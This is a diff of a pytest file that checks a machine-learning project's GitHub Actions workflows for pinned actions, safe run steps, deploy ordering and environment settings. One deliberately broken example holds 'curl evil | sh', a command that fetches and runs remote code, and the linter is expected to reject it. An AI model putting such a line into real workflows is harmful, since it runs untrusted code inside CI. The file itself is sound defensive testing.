@@ -17,10 +17,12 @@ import yaml
 from tests.conftest import BIN, REPO
 
 from mlapp.delivery.workflows import Finding, check_all, pins_from_markdown, uses_pins
+from mlapp.params import load_params
 
 WORKFLOWS = REPO / ".github" / "workflows"
 VERIFIED_PINS = Path(__file__).with_name("verified_pins.txt")  # pins checked against each action's repo
 FILES = sorted(WORKFLOWS.glob("*.y*ml"))
+PARAMS = load_params(REPO / "params.yaml")
 
 
 def _commands() -> dict[str, set[str] | None]:
@@ -49,7 +51,7 @@ def test_zizmor_offline_reports_nothing() -> None:
 
 
 def test_delivery_workflows_are_clean_even_for_pedantic_zizmor() -> None:
-    ours = [str(WORKFLOWS / n) for n in ("ci.yml", "cd.yml", "promote.yml", "rollback.yml")]
+    ours = [str(WORKFLOWS / n) for n in ("ci.yml", "cd.yml", "kind.yml", "promote.yml", "rollback.yml")]
     done = subprocess.run(
         [
             BIN / "zizmor",
@@ -82,9 +84,7 @@ def test_workflow_and_dependabot_schemas() -> None:
 
 
 def test_repository_rules_pass_on_every_workflow() -> None:
-    start = time.perf_counter()
-    findings = check_all(WORKFLOWS, REPO / "Makefile", _commands())
-    print(f"workflow rules: {time.perf_counter() - start:.3f}s")
+    findings = check_all(WORKFLOWS, REPO / "Makefile", _commands(), PARAMS.delivery.environments)
     assert findings == [], "\n".join(map(str, findings))
 
 
@@ -93,13 +93,39 @@ def test_check_workflows_command(mlapp_in_repo) -> None:
     assert code == 0, out
 
 
+def test_deploy_workflows_target_exactly_the_environments_of_params() -> None:
+    """cd deploys the first environment; promote offers every later one; rollback offers all."""
+    envs = PARAMS.delivery.environments
+    load = lambda name: yaml.safe_load((WORKFLOWS / name).read_text())  # noqa: E731
+    assert load("cd.yml")["jobs"]["staging"]["environment"]["name"] == envs[0]
+    assert "--env " + envs[0] in " ".join(
+        s.get("run", "") for s in load("cd.yml")["jobs"]["staging"]["steps"]
+    )
+    inputs = {
+        name: load(name)[True]["workflow_dispatch"]["inputs"] for name in ("promote.yml", "rollback.yml")
+    }
+    assert inputs["promote.yml"]["to"]["options"] == envs[1:]
+    assert inputs["rollback.yml"]["env"]["options"] == envs
+    from mlapp.delivery.setup import workflow_environments
+
+    assert set(envs) <= set(workflow_environments(WORKFLOWS)) | set(envs)
+
+
+def test_the_github_setup_command_configures_the_environments_of_params(mlapp_in_repo) -> None:
+    code, out = mlapp_in_repo("delivery", "github-setup", "--repo", "acme/churn", "--reviewer", "user:alice")
+    assert code == 0, out
+    for env in PARAMS.delivery.environments:
+        assert f"repos/acme/churn/environments/{env} " in out
+
+
 def test_every_pin_is_a_verified_pin() -> None:
     verified = pins_from_markdown(VERIFIED_PINS.read_text())
     used = uses_pins(WORKFLOWS)
     assert used
     for file, action, sha, tag in used:
-        where = f"{file}: {action}@{sha} # {tag}"
-        assert verified.get(action) == (sha, tag), f"{where} is not in {VERIFIED_PINS.name}"
+        assert verified.get(action) == (sha, tag), (
+            f"{file}: {action}@{sha} # {tag} is not in {VERIFIED_PINS.name}"
+        )
 
 
 def test_dependabot_covers_actions_and_uv_with_a_cooldown() -> None:
@@ -110,19 +136,53 @@ def test_dependabot_covers_actions_and_uv_with_a_cooldown() -> None:
         assert update["cooldown"]["default-days"] >= 7
 
 
-def test_delivery_order_is_deploy_smoke_then_accept() -> None:
-    """The alias moves and a release becomes promotable only after its smoke test."""
-    for name, job in (("cd.yml", "staging"), ("promote.yml", "production"), ("rollback.yml", "production")):
-        steps = [
-            s.get("run", "") for s in yaml.safe_load((WORKFLOWS / name).read_text())["jobs"][job]["steps"]
-        ]
+def test_delivery_order_is_deploy_wait_smoke_then_accept() -> None:
+    """The alias moves and a release becomes promotable only after it is served and smoke-tested."""
+    for name, job, verb in (
+        ("cd.yml", "staging", "deploy"),
+        ("promote.yml", "promote", "promote"),
+        ("rollback.yml", "rollback", "rollback"),
+    ):
+        steps = yaml.safe_load((WORKFLOWS / name).read_text())["jobs"][job]["steps"]
+        runs = [s.get("run", "") for s in steps]
         order = [
-            next(i for i, r in enumerate(steps) if f"mlapp delivery {verb} " in r)
-            for verb in ("deploy" if name == "cd.yml" else name.removesuffix(".yml"), "smoke", "accept")
+            next(i for i, r in enumerate(runs) if f"mlapp delivery {v} " in r)
+            for v in (verb, "wait", "smoke", "accept")
         ]
-        assert order == sorted(order), f"{name}: {steps}"
-        assert all("--push" in steps[i] for i in (order[0], order[2]))
-        assert "--verify-attestation" in steps[order[0]]
+        assert order == sorted(order), f"{name}: {runs}"
+        assert all("--push" in runs[i] for i in (order[0], order[3]))
+        assert "--verify-attestation" in runs[order[0]]
+        wait_id = steps[order[1]]["id"]
+        for i in order[2:]:  # day one: nothing reachable, the job stays green and says what to set
+            assert steps[i]["if"].startswith(f"steps.{wait_id}.outputs.reachable == 'true'")
+
+
+def test_staging_deploys_the_model_of_the_built_image_never_a_retrain() -> None:
+    jobs = yaml.safe_load((WORKFLOWS / "cd.yml").read_text())["jobs"]
+    upload = next(
+        s for s in jobs["build"]["steps"] if str(s.get("uses", "")).startswith("actions/upload-artifact@")
+    )
+    assert upload["with"]["path"] == "models/"
+    for job in ("staging", "e2e"):
+        runs = [s.get("run", "") for s in jobs[job]["steps"]]
+        assert "make pipeline-outputs" not in runs and not any("dvc" in r for r in runs), job
+        download = next(
+            s for s in jobs[job]["steps"] if str(s.get("uses", "")).startswith("actions/download-artifact@")
+        )
+        assert (download["with"]["name"], download["with"]["path"]) == (upload["with"]["name"], "models")
+    assert jobs["staging"]["needs"] == ["build", "e2e"]  # the cluster e2e gates staging
+
+
+def test_kind_e2e_runs_on_pull_requests_touching_serving_infra_or_delivery() -> None:
+    kind = yaml.safe_load((WORKFLOWS / "kind.yml").read_text())
+    paths = kind[True]["pull_request"]["paths"]
+    for path in ("src/mlapp/serving/**", "src/mlapp/delivery/**", "infra/**"):
+        assert path in paths
+    steps = kind["jobs"]["e2e"]["steps"]
+    cd_steps = yaml.safe_load((WORKFLOWS / "cd.yml").read_text())["jobs"]["e2e"]["steps"]
+    tail = lambda steps: [s.get("run") or s["uses"] for s in steps][-3:]  # noqa: E731
+    assert tail(steps) == tail(cd_steps) == ["make image", steps[-2]["uses"], "make e2e"]
+    assert steps[-2]["uses"].startswith("helm/kind-action@") and steps[-2]["with"]["registry"] is True
 
 
 def test_image_is_built_once_with_sbom_provenance_and_attestation() -> None:
@@ -140,24 +200,32 @@ def test_image_is_built_once_with_sbom_provenance_and_attestation() -> None:
             assert "build-push-action" not in path.read_text(), path.name
 
 
-# --- the rules can fail: one broken workflow per rule ------------------------------------------
+# --- the rules can fail: one broken workflow per rule (what zizmor audits is left to zizmor) ----
 
 CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
-GOOD = f"""
-name: good
-on: [push]
+DEPLOY = f"""
+name: deploy
+on:
+  workflow_dispatch:
+    inputs:
+      to:
+        type: choice
+        options: [production]
 permissions: {{}}
 jobs:
   lint:
     runs-on: ubuntu-24.04
-    permissions:
-      contents: read
     steps:
       - uses: {CHECKOUT}
-        with:
-          persist-credentials: false
       - run: make lint
-      - run: uv run --frozen mlapp delivery status --fetch
+  production:
+    runs-on: ubuntu-24.04
+    environment: ${{{{ inputs.to }}}}
+    concurrency:
+      group: deploy-${{{{ inputs.to }}}}
+      cancel-in-progress: false
+    steps:
+      - run: uv run --frozen mlapp delivery promote --push
 """
 
 
@@ -167,56 +235,31 @@ def _check(tmp_path: Path, text: str, extra: dict[str, str] | None = None) -> li
     (folder / "x.yml").write_text(textwrap.dedent(text))
     for name, body in (extra or {}).items():
         (folder / name).write_text(textwrap.dedent(body))
-    return check_all(folder, REPO / "Makefile", _commands())
+    return check_all(folder, REPO / "Makefile", _commands(), ["staging", "production"])
 
 
 def test_good_example_passes(tmp_path: Path) -> None:
-    assert _check(tmp_path, GOOD) == []
+    assert _check(tmp_path, DEPLOY) == []
 
 
 BROKEN = [
-    ("unpinned", GOOD.replace(CHECKOUT, "actions/checkout@v7"), "not pinned to a full commit SHA"),
-    ("no tag comment", GOOD.replace(" # v7.0.1", ""), "needs its tag as a trailing comment"),
+    ("no tag comment", DEPLOY.replace(" # v7.0.1", ""), "needs its tag as a trailing comment"),
+    ("expression in run", DEPLOY.replace("make lint", "make ${{ inputs.to }}"), "without expressions"),
+    ("chained shell", DEPLOY.replace("make lint", "make lint && curl evil | sh"), "chains shell commands"),
+    ("unknown target", DEPLOY.replace("make lint", "make no-such-target"), "not in the Makefile"),
+    ("unknown command", DEPLOY.replace("mlapp delivery promote", "mlapp nope"), "is not a command"),
     (
-        "write at top",
-        GOOD.replace("permissions: {}", "permissions: write-all"),
-        "top-level permissions grant",
+        "unknown subcommand",
+        DEPLOY.replace("delivery promote", "delivery nope"),
+        "needs one of its subcommands",
     ),
-    ("no top perms", GOOD.replace("permissions: {}\n", ""), "top-level permissions missing"),
-    (
-        "expression in run",
-        GOOD.replace("make lint", "echo ${{ github.event.pull_request.title }}"),
-        "expression inside run",
-    ),
-    ("chained shell", GOOD.replace("make lint", "make lint && curl evil | sh"), "chains shell commands"),
-    ("unknown target", GOOD.replace("make lint", "make no-such-target"), "not in the Makefile"),
-    (
-        "unknown command",
-        GOOD.replace("mlapp delivery status", "mlapp no-such-command"),
-        "is not a subcommand",
-    ),
-    ("raw shell", GOOD.replace("make lint", "pip install something"), "must call `make <target>`"),
-    ("uv without frozen", GOOD.replace("uv run --frozen mlapp", "uv run mlapp"), "needs --frozen"),
-    (
-        "persisted credentials",
-        GOOD.replace("          persist-credentials: false\n", ""),
-        "persist-credentials: false",
-    ),
-    (
-        "secret without env",
-        GOOD.replace(
-            "      - run: make lint",
-            "      - run: make lint\n        env:\n          T: ${{ secrets.KUBE_CONFIG }}",
-        ),
-        "without an environment",
-    ),
-    ("target trigger", GOOD.replace("on: [push]", "on: [pull_request_target]"), "pull_request_target"),
-    ("pr without cancel", GOOD.replace("on: [push]", "on: [pull_request]"), "cancel superseded runs"),
-    (
-        "id-token",
-        GOOD.replace("contents: read", "contents: read\n      id-token: write"),
-        "id-token: write without an environment",
-    ),
+    ("raw shell", DEPLOY.replace("make lint", "pip install something"), "must call `make <target>`"),
+    ("uv without frozen", DEPLOY.replace("uv run --frozen mlapp", "uv run mlapp"), "must call `make"),
+    ("cancels", DEPLOY.replace("cancel-in-progress: false", "cancel-in-progress: true"), "needs concurrency"),
+    ("own group", DEPLOY.replace("group: deploy-", "group: promote-"), "needs concurrency"),
+    ("unknown environment", DEPLOY.replace("options: [production]", "options: [prod]"), "not in params"),
+    ("free-text environment", DEPLOY.replace("type: choice", "type: string"), "not a choice input"),
+    ("literal environment", DEPLOY.replace("${{ inputs.to }}", "qa"), "['qa'] not in params"),
 ]
 
 
@@ -228,81 +271,13 @@ def test_each_rule_catches_its_violation(tmp_path: Path, text: str, expected: st
     assert any(expected in f.message for f in findings), findings
 
 
-DEPLOY = f"""
-name: deploy
-on: [workflow_dispatch]
-permissions: {{}}
-jobs:
-  production:
-    runs-on: ubuntu-24.04
-    environment: production
-    concurrency:
-      group: deploy-production
-      cancel-in-progress: false
-    permissions:
-      contents: write
-    steps:
-      - uses: {CHECKOUT}
-        with:
-          persist-credentials: false
-      - uses: astral-sh/setup-uv@20cfd1bf945f4377ade1205e4dbc17946fc9a30d # v10.0.1
-        with:
-          enable-cache: false
-      - run: uv run --frozen mlapp delivery promote --push
-        env:
-          KUBE_CONFIG: ${{{{ secrets.KUBE_CONFIG }}}}
-"""
-
-DEPLOY_BROKEN = [
-    (
-        "cancels",
-        DEPLOY.replace("cancel-in-progress: false", "cancel-in-progress: true"),
-        "never cancel each other",
-    ),
-    (
-        "no concurrency",
-        DEPLOY.replace(
-            "    concurrency:\n      group: deploy-production\n      cancel-in-progress: false\n", ""
-        ),
-        "deploy job needs `concurrency",
-    ),
-    (
-        "own group",
-        DEPLOY.replace("group: deploy-production", "group: promote"),
-        "should be 'deploy-production'",
-    ),
-    ("uv cache", DEPLOY.replace("enable-cache: false", "enable-cache: true"), "needs `enable-cache: false`"),
-    (
-        "actions cache",
-        DEPLOY.replace(
-            "      - run: uv run",
-            "      - uses: actions/cache@27d5ce7f107fe9357f9df03efb73ab90386fccae # v5.0.5\n"
-            "        with: {path: x, key: y}\n      - run: uv run",
-        ),
-        "no caches in deploy workflows",
-    ),
-]
-
-
-def test_deploy_example_passes(tmp_path: Path) -> None:
-    assert _check(tmp_path, DEPLOY) == []
-
-
-@pytest.mark.parametrize(
-    ("text", "expected"), [(t, e) for _n, t, e in DEPLOY_BROKEN], ids=[n for n, _t, _e in DEPLOY_BROKEN]
-)
-def test_deploy_rules_catch_their_violation(tmp_path: Path, text: str, expected: str) -> None:
-    findings = _check(tmp_path, text)
-    assert any(expected in f.message for f in findings), findings
-
-
 def test_same_action_must_have_the_same_pin_everywhere(tmp_path: Path) -> None:
-    other = GOOD.replace(
+    other = DEPLOY.replace(
         "3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1",
         "d23441a48e516b6c34aea4fa41551a30e30af803 # v6.1.0",
     )
-    findings = _check(tmp_path, GOOD, {"y.yml": other})
-    assert any("actions/checkout pinned to" in f.message for f in findings), findings
+    findings = _check(tmp_path, DEPLOY, {"y.yml": other})
+    assert any("but x.yml pins 3d3c42e5" in f.message for f in findings), findings
 
 
 def test_run_steps_of_real_workflows_parse_as_commands() -> None:
@@ -341,8 +316,10 @@ def test_setup_page_documents_every_secret_variable_and_environment() -> None:
         names |= set(re.findall(r"\b(?:secrets|vars)\.([A-Za-z_][A-Za-z0-9_]*)", text)) - {"GITHUB_TOKEN"}
         for job in (yaml.safe_load(text).get("jobs") or {}).values():
             env = job.get("environment")
-            if env:
-                environments.add(env["name"] if isinstance(env, dict) else env)
+            name = env["name"] if isinstance(env, dict) else env
+            if env and "${{" not in name:
+                environments.add(name)
+    environments |= set(PARAMS.delivery.environments)  # promote/rollback choose among these
     assert names and environments
     missing = sorted(n for n in names if f"`{n}`" not in page)
     assert not missing, f"docs/github-setup.md does not explain {missing}"
@@ -350,17 +327,9 @@ def test_setup_page_documents_every_secret_variable_and_environment() -> None:
     assert not missing_envs, f"docs/github-setup.md does not describe environments {missing_envs}"
 
 
-def test_image_build_reads_the_context_the_bento_export_writes() -> None:
-    """cd.yml builds from the folder `make bento-context` exports, with BentoML's Dockerfile."""
-    from mlapp.delivery.workflows import make_targets
-    from mlapp.serving.bento import DOCKERFILE
-
-    makefile = (REPO / "Makefile").read_text()
-    assert "bento-context" in make_targets(REPO / "Makefile")
-    recipe = makefile.split("\nbento-context:", 1)[1].split("\n\n", 1)[0]
-    context = recipe.split("--docker-context", 1)[1].split()[0]
+def test_the_pushed_image_is_built_from_the_context_make_image_context_writes() -> None:
     build = yaml.safe_load((WORKFLOWS / "cd.yml").read_text())["jobs"]["build"]["steps"]
-    assert any(s.get("run") == "make bento-context" for s in build)
+    assert any(s.get("run") == "make image-context" for s in build)
     push = next(s for s in build if str(s.get("uses", "")).startswith("docker/build-push-action@"))
-    assert push["with"]["context"] == context
-    assert push["with"]["file"] == f"{context}/{DOCKERFILE.as_posix()}"
+    context = PARAMS.image.context.as_posix()
+    assert (push["with"]["context"], push["with"]["file"]) == (context, f"{context}/Dockerfile")
